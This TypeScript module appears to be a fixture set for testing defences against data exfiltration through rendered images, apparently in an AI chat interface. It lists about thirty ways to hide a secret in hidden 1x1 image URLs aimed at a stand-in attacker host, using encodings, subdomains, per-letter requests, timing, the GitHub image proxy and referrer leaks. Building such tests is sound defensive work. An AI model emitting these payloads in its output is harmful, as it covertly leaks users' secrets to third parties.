import { ATTACKER, SECRET, type Target, type Vector, type Way } from './vector';

/** Section A: where in an address the payload sits. Each is asked for by a plain picture. */

const usual: readonly Way[] = ['inner', 'sandbox'];
const secretBytes = new TextEncoder().encode(SECRET);
const hex = Array.from(secretBytes, (byte) => byte.toString(16).padStart(2, '0')).join('');
const base64 = btoa(SECRET);
const plain = encodeURIComponent(SECRET);

function picture(
  row: number,
  title: string,
  address: (to: Target) => string | readonly string[],
  more: Partial<Vector> = {},
): Vector {
  return {
    row,
    section: 'A',
    title,
    ways: usual,
    html: (to) => [address(to)].flat().map(imageOf).join(''),
    ...more,
  };
}

function imageOf(address: string): string {
  return `<img src="${address}" alt="" width="1" height="1">`;
}

function each(text: string, address: (letter: string, index: number) => string): readonly string[] {
  return [...text].map(address);
}

export const payloadPlaces: readonly Vector[] = [
  picture(1, 'value of a parameter', ({ host }) => `https://${host}/l.png?q=${plain}`),
  picture(2, 'base64', ({ host }) => `https://${host}/l.png?d=${base64.replaceAll('=', '')}`),
  picture(3, 'hex', ({ host }) => `https://${host}/l.png?d=${hex}`),
  picture(4, 'code points', ({ host }) => `https://${host}/l.png?d=${secretBytes.join('-')}`),
  picture(
    5,
    'reversed',
    ({ host }) => `https://${host}/l.png?d=${encodeURIComponent([...SECRET].reverse().join(''))}`,
  ),
  picture(6, 'percent-encoded twice', ({ host }) => `https://${host}/l.png?d=${encodeURIComponent(plain)}`),
  picture(
    7,
    'cipher',
    ({ host }) =>
      `https://${host}/l.png?d=${btoa(String.fromCharCode(...secretBytes.map((byte) => byte ^ 0x5a)))}`,
  ),
  picture(8, 'name of a parameter', ({ host }) => `https://${host}/exec?${plain}=`),
  picture(9, 'query without a name', ({ host }) => `https://${host}/p.png?${plain}`),
  picture(
    10,
    'split over parameters',
    ({ host }) =>
      `https://${host}/p.png?a=${plain.slice(0, 8)}&amp;b=${plain.slice(8, 16)}&amp;c=${plain.slice(16)}`,
  ),
  picture(
    11,
    'segment of the path',
    ({ host }) => `https://${host}/u/${SECRET.replaceAll(' ', '-')}/logo.png`,
  ),
  picture(
    12,
    'path in pieces',
    ({ host }) => `https://${host}/${base64.replaceAll('=', '').replace(/.{4}/g, '$&/')}x.png`,
  ),
  picture(13, 'name of the file', ({ host }) => `https://${host}/${SECRET.replaceAll(' ', '_')}.png`),
  picture(14, 'matrix parameter', ({ host }) => `https://${host}/l.png;v=4829130577`),
  picture(15, 'one label of the host', ({ host }) => `https://${hex.slice(0, 32)}.${host}/p.png`),
  picture(
    16,
    'several labels of the host',
    ({ host }) => `https://${hex.slice(0, 8)}.${hex.slice(8, 16)}.${host}/p.png`,
  ),
  picture(17, 'the host alone', ({ host }) => `https://${host}/`),
  picture(18, 'port', ({ host }) => `https://${host}:8443/p.png`),
  picture(19, 'user-info', ({ host }) => `https://jane:4829130577@${host}/p.png`),
  picture(
    21,
    'invisible characters',
    ({ host }) =>
      `https://${host}/?x=${encodeURIComponent(String.fromCodePoint(...Array.from(secretBytes, (byte) => 0xe0000 + byte)))}`,
  ),
  picture(22, 'one address for each letter', ({ host }) =>
    each('482913', (letter, index) => `https://${host}/${letter}.png?i=${index}`),
  ),
  picture(23, 'dictionary on a proxy for pictures', ({ mark }) =>
    each('482', (letter) => `https://camo.githubusercontent.com/${mark}/${letter}`),
  ),
  picture(24, 'one page for each letter', ({ host }) =>
    each('482', (letter) => `https://${host}/x/${letter}`),
  ),
  picture(25, 'list of words', ({ host }) => `https://${host}/w/0482`),
  picture(26, 'timing of the same request', ({ host }) => [
    `https://${host}/t.gif?n=1`,
    `https://${host}/t.gif?n=1`,
  ]),
  picture(27, 'number of copies', ({ host }) => each('abc', (letter) => `https://${host}/n.gif?${letter}`)),
  picture(28, 'sizes of an optimiser', ({ host }) => `https://${host}/img?w=482&amp;h=913`),
  picture(29, 'choice of the host', ({ mark }) => `https://a2.${mark}.${ATTACKER}/p.png`),
  picture(30, 'choice of an object in a bucket', ({ mark }) => `https://${mark}.s3.amazonaws.com/k17.png`),
  picture(31, 'choice of words', ({ host }) => `https://${host}/blog/fast-red-fox-jumps`),
  {
    row: 32,
    section: 'A',
    title: 'address of the chat as referrer',
    ways: usual,
    html: ({ host }) => `<img src="https://${host}/r.png" referrerpolicy="unsafe-url" alt="">`,
  },
];
